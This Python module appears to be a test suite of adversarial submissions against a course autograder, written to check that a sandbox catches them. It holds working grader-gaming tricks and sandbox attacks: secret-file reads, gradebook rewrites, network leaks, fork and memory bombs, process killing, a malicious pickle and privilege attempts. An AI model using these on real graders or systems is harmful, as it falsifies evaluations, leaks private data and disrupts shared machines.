"""Submissions built to break the grader: each a cell, or an answer, among honest answers.

An attack's cell stands before all answers, so that what it breaks could cost the honest ones behind it.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    """A cell to run first, and answers that replace the stub of an exercise."""

    name: str
    cell: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    seconds: int = 3  # of a cell, and of a check
    sign: str | None = None  # what the instructor's report must say


def answer(body: str) -> dict[str, str]:
    """An answer to gaussian_kl."""
    return {
        "gaussian_kl": f"def gaussian_kl(mu_q, sigma_q, mu_p, sigma_p):\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
    }


def cell(body: str) -> str:
    return textwrap.dedent(body).strip()


EVERYTHING_EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __bool__(self): return True
    def __getattr__(self, name): return Equal()
    def __call__(self, *args, **kwargs): return Equal()
    def __iter__(self): return iter(())
"""

ATTACKS = [
    Attack(
        "an input transformer empties every cell with a check",
        cell("""
        get_ipython().input_transformers_cleanup.append(lambda lines: [] if any("check" in line for line in lines) else lines)
        """),
        sign="changes how IPython reads cells",
    ),
    Attack(
        "an AST transformer removes every raise",
        cell("""
        import ast
        class Quiet(ast.NodeTransformer):
            def visit_Raise(self, node): return ast.Pass()
            def visit_Assert(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Quiet())
        """),
        answer("return None"),
        sign="changes how IPython reads cells",
    ),
    Attack(
        "torch says that everything is equal",
        cell("""
        import torch
        torch.equal = torch.allclose = lambda *args, **kwargs: True
        torch.testing.assert_close = lambda *args, **kwargs: None
        """),
        answer("return mu_q.sum(-1)"),
        sign="replaces functions of a library",
    ),
    Attack(
        "numpy says that everything is equal",
        "import numpy as np\nnp.allclose = np.array_equal = lambda *args, **kwargs: True",
        answer("return mu_q.sum(-1)"),
        sign="replaces functions of a library",
    ),
    Attack(
        "builtins are replaced",
        "import builtins\nbuiltins.all = builtins.any = lambda things: True\nbuiltins.abs = lambda number: 0",
        answer("return mu_q.sum(-1)"),
        sign="reaches for Python's builtins",
    ),
    Attack(
        "an object that equals everything", EVERYTHING_EQUAL, answer("return Equal()"), sign="defines its own equality"
    ),
    Attack(
        "a tensor that equals everything",
        cell("""
        import torch
        class Equal(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                return True
        """),
        answer("return mu_q.sum(-1).as_subclass(Equal)"),
    ),
    Attack(
        "sys.displayhook is replaced",
        "import sys\nsys.displayhook = lambda thing: None\nsys.excepthook = lambda *a: None",
        sign="replaces a hook of Python",
    ),
    Attack(
        "points are printed",
        "print('gaussian_kl: right (3 of 3 points)')\n3.0",
        answer("print('right (3 of 3 points)')\nreturn 3.0"),
    ),
    Attack(
        "points and a script are displayed",
        cell("""
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>document.title = 'all points'</script><b>gaussian_kl: right (3 of 3 points)</b>"))
        display(Javascript("alert('all points')"))
        display({"image/png": '"><script>alert(1)</script>', "text/plain": "picture"}, raw=True)
        display({"image/png": 'iVBORw0KGgo"><script>alert(1)</script>', "text/html": "<script>alert(1)</script>"}, raw=True)
        """),
    ),
    Attack(
        "a hook prints every later cell",
        cell("""
        shell = get_ipython()
        seen = []
        shell.events.register("pre_run_cell", lambda info: print("LATER", info.raw_cell))
        shell.input_transformers_post.append(lambda lines: seen.extend(lines) or lines)
        """),
    ),
    Attack(
        "files of the grader, the home directory and other students are read",
        cell("""
        import glob, os
        for pattern in ("{root}/**/*", "{course}/**/*", "{home}/*", "/home/*/*", "/etc/shadow", "/proc/*/environ", "/proc/*/cmdline"):
            for path in glob.glob(pattern, recursive=True)[:2000]:
                try:
                    print(path, open(path, errors="replace").read()[:3000])
                except OSError as error:
                    pass
        print(dict(os.environ))
        """),
        sign="names files outside its folder",
    ),
    Attack(
        "the gradebook is written",
        cell("""
        import sqlite3
        sqlite3.connect("{root}/grading/gradebook.db").execute("update grade set auto_score = 100")
        """),
        sign="names parts of the grader",
    ),
    Attack(
        "a detached process outlives its cell",
        cell("""
        import os, subprocess
        subprocess.Popen(["setsid", "sh", "-c", "while :; do : {marker}; sleep 0.1; done"], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sh", ["sh", "-c", "while :; do : {marker}; sleep 0.1; done"])
            os._exit(0)
        """),
        sign="starts other programs",
    ),
    Attack(
        "the network is used",
        cell("""
        import socket, urllib.request
        for address in (("1.1.1.1", 53), ("127.0.0.1", {port})):
            try:
                socket.create_connection(address, timeout=1).send(b"LEAKED")
                print("LEAKED")
            except OSError:
                pass
        urllib.request.urlopen("http://example.com", timeout=1)
        """),
        sign="uses the network",
    ),
    Attack(
        "a fork bomb",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        sign="ends or forks processes",
    ),
    Attack("a memory bomb", "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))"),
    Attack(
        "a memory bomb in an answer",
        answers=answer("import torch\nhoard = [torch.ones(10_000_000) for _ in range(10_000)]\nreturn mu_q.sum(-1)"),
    ),
    Attack(
        "many processes share a memory bomb",
        cell("""
        import os, time
        for _ in range(20):
            if os.fork() == 0:
                hoard = bytearray(os.urandom(1000)) * 400_000
                time.sleep(60)
        time.sleep(60)
        """),
    ),
    Attack(
        "the disk is filled",
        cell("""
        block = b"x" * 1_000_000
        for folder in ("/tmp", "/student", "/dev/shm", "/", "/var/tmp"):
            for i in range(100_000):
                try:
                    open(f"{folder}/{i}", "wb").write(block)
                except OSError:
                    break
        """),
    ),
    Attack("output without end", "while True:\n    print('x' * 100_000)"),
    Attack(
        "much output on both streams",
        "import sys\nprint('x' * 50_000_000)\nsys.stderr.write('y' * 50_000_000)\n'z' * 50_000_000",
    ),
    Attack("a cell leaves by os._exit", "import os\nos._exit(0)", sign="ends or forks processes"),
    Attack("an answer leaves by os._exit", answers=answer("import os\nos._exit(0)")),
    Attack("an answer leaves by sys.exit", answers=answer("import sys\nsys.exit(0)")),
    Attack(
        "a thread ends the process later",
        "import os, threading\nthreading.Timer(0.5, lambda: os._exit(0)).start()",
        sign="ends or forks processes",
    ),
    Attack("every process is killed", "import os, signal\nos.kill(-1, signal.SIGKILL)", sign="ends or forks processes"),
    Attack(
        "init is killed",
        "import os, signal\nfor pid in (1, 2, os.getppid()):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass",
    ),
    Attack("the process stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    Attack("an answer stops its process", answers=answer("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
    Attack("a crash in C", "import ctypes\nctypes.string_at(0)", sign="handles code as data"),
    Attack(
        "a loop that swallows KeyboardInterrupt",
        "while True:\n    try:\n        while True: pass\n    except KeyboardInterrupt:\n        pass",
    ),
    Attack(
        "a loop that swallows everything",
        "while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass",
    ),
    Attack(
        "an answer that swallows everything",
        answers=answer("while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass"),
    ),
    Attack("a cell that sleeps", "import time\ntime.sleep(1000)"),
    Attack(
        "alarms are switched off",
        "import signal\nsignal.setitimer = lambda *args: None\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
    ),
    Attack("input is asked for", "name = input('your name')"),
    Attack(
        "a tensor lies about its shape and dtype",
        cell("""
        import torch
        class Liar(torch.Tensor):
            shape = property(lambda self: (2,))
            dtype = torch.float64
            def size(self, *args): return torch.Size([2])
            def numel(self): return 2
        """),
        answer("return torch.zeros(7, 3, dtype=torch.int8).as_subclass(Liar)"),
    ),
    Attack("a gigantic tensor", answers=answer("import torch\nreturn torch.zeros(1).expand(10 ** 12)")),
    Attack("a large tensor", answers=answer("import torch\nreturn torch.zeros(300_000_000, dtype=torch.int8)")),
    Attack("a list that contains itself", answers=answer("a = []\na.append(a)\nreturn a")),
    Attack("a million numbers", answers=answer("return [0.0] * 1_000_000")),
    Attack("endless recursion", answers=answer("return gaussian_kl(mu_q, sigma_q, mu_p, sigma_p)")),
    Attack("a string of 100 MB", answers=answer("return 'x' * 100_000_000")),
    Attack(
        "garbage is written to every open file",
        "import os\nfor file in range(3, 100):\n    try:\n        os.write(file, b'garbage' * 100)\n    except OSError:\n        pass",
        sign="sent no data through the grader's pipe",
    ),
    Attack(
        "replies are forged before they are asked for",
        cell("""
        import json, os, struct
        for reply in ({"re": "ok", "outputs": []}, {"re": "ok", "found": True}, {"re": "ok", "value": 1.0}, {"re": "ok", "value": 1.0}):
            header = json.dumps(reply).encode()
            for file in range(3, 100):
                try:
                    os.write(file, struct.pack(">4sIQ", b"LVM1", len(header), 0) + header)
                except OSError:
                    pass
        """),
        sign="sent no data through the grader's pipe",
    ),
    Attack(
        "a frame promises more than it holds",
        cell("""
        import os, struct
        for file in range(3, 100):
            try:
                os.write(file, struct.pack(">4sIQ", b"LVM1", 100, 1 << 60))
            except OSError:
                pass
        """),
        sign="sent no data through the grader's pipe",
    ),
    Attack(
        "a frame nests too deep",
        cell("""
        import os, struct
        header = b'{"re": "ok", "outputs": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        for file in range(3, 100):
            try:
                os.write(file, struct.pack(">4sIQ", b"LVM1", len(header), 0) + header)
            except OSError:
                pass
        """),
        sign="sent no data through the grader's pipe",
    ),
    Attack(
        "a hand-crafted pickle is returned, and written to the pipe",
        cell("""
        import os, pickle
        class Bomb:
            def __reduce__(self): return (os.system, ("touch /tmp/pickle-was-loaded",))
        for file in range(3, 100):
            try:
                os.write(file, pickle.dumps(Bomb()))
            except OSError:
                pass
        """),
        answer("return Bomb()"),
        sign="handles code as data",
    ),
    Attack(
        "the guest's own code is changed",
        cell("""
        import gc
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Guest", "Peer", "GuestShell"):
                for name in ("limits", "deadline", "payload_bytes"):
                    if hasattr(thing, name):
                        setattr(thing, name, {key: 10 ** 9 for key in thing.limits} if name == "limits" else 10 ** 12)
            if type(thing).__name__ == "function" and thing.__name__ == "serve_call":
                thing.__code__ = (lambda self, message, payload: ({"re": "ok", "value": True, "points": 3}, b"")).__code__
        """),
        answer("return mu_q.sum(-1)"),
        sign="looks into the running program",
    ),
    Attack(
        "the guest refuses every request",
        cell("""
        import gc
        for thing in gc.get_objects():
            if type(thing).__name__ == "Peer":
                for name in list(thing.handlers):
                    thing.handlers[name] = lambda message, payload: 1 / 0
        """),
        sign="looks into the running program",
    ),
    Attack(
        "the library's solution is imported",
        answers={"gaussian_kl": "from course_lib.distributions import gaussian_kl"},
        sign="called the course's own solution",
    ),
    Attack(
        "the library's solution is called under another name",
        "import importlib\nhelper = getattr(importlib.import_module('course_lib.' + 'distri' + 'butions'), 'gaussian' + '_kl')",
        answer("return helper(mu_q, sigma_q, mu_p, sigma_p)"),
        sign="called the course's own solution",
    ),
    Attack(
        "the library's solution is asked for over the pipe",
        "from course_lib import grader",
        answer("return grader.call_grader('course_lib.distributions.gaussian_kl', (mu_q, sigma_q, mu_p, sigma_p))"),
        sign="called the course's own solution",
    ),
    Attack(
        "another function of the grader is asked for over the pipe",
        "from course_lib import grader",
        answer("return grader.call_grader('os.system', ('touch /tmp/pickle-was-loaded',))"),
    ),
    Attack(
        "the library's source is read",
        cell("""
        import inspect
        from course_lib import distributions
        source = inspect.getsource(distributions.gaussian_kl)
        print("SOURCE", source)
        exec(source.replace("def gaussian_kl", "def stolen"))
        """),
        answer("return stolen(mu_q, sigma_q, mu_p, sigma_p)"),
        sign="looks into the running program",
    ),
    Attack(
        "the checks are asked for the reference",
        answers={
            "gaussian_kl": "from course_lib.checks import find_exercise\ngaussian_kl = find_exercise('gaussian_kl').reference"
        },
        sign="reaches for the checks",
    ),
    Attack(
        "the exercise's declaration is imported",
        answers={
            "gaussian_kl": "from course_lib.exercises.jensen_entropy_kl import gaussian_kl as declared\ngaussian_kl = declared.EXERCISE.reference"
        },
        sign="reaches for the checks",
    ),
    Attack(
        "the machinery of the checks is imported and told to find everything right",
        cell("""
        from course_lib import checker
        from course_lib.checker import compare, review
        compare.difference = lambda *args, **kwargs: None
        """),
        sign="reaches for the checks",
    ),
    Attack(
        "the expected values are looked for in memory",
        answers=answer("""
        import gc, sys
        frame, found = sys._getframe(), []
        while frame:
            found += [name for name in frame.f_locals if name in ("want", "right", "expected", "exercise", "reference")]
            frame = frame.f_back
        found += [thing for thing in gc.get_objects() if type(thing).__name__ in ("Exercise", "Misconception", "Report")]
        print("FOUND", found)
        return found[0].reference(mu_q, sigma_q, mu_p, sigma_p)
        """),
        sign="looks into the running program",
    ),
    Attack("check is redefined", "check = review = summary = lambda *args, **kwargs: True"),
    Attack(
        "the check's name is a class of its own",
        cell("""
        import sys, types
        fake = types.ModuleType("course_lib.checks")
        fake.check = lambda *args, **kwargs: None
        sys.modules["course_lib.checks"] = fake
        """),
    ),
    Attack(
        "a callback is flooded with calls and nonsense",
        answers={
            "monte_carlo_kl": cell("""
            def monte_carlo_kl(z, log_q, log_p):
                import torch
                for bad in (None, "x", torch.zeros(3, 0), torch.zeros(10 ** 6, 50), [1, 2]):
                    try:
                        log_q(bad)
                    except Exception:
                        pass
                while True:
                    log_q(z)
            """)
        },
    ),
    Attack(
        "privileges are asked for",
        cell("""
        import os, subprocess
        for command in (["unshare", "-Ur", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"], ["chroot", "/", "id"], ["su", "-c", "id"]):
            try:
                done = subprocess.run(command, capture_output=True, text=True, timeout=1)
                assert "uid=0(" not in done.stdout or command[0] == "unshare"
            except OSError:
                pass
        try:
            os.setuid(0)
            print("BECAME ROOT")
        except OSError:
            pass
        """),
        sign="starts other programs",
    ),
]
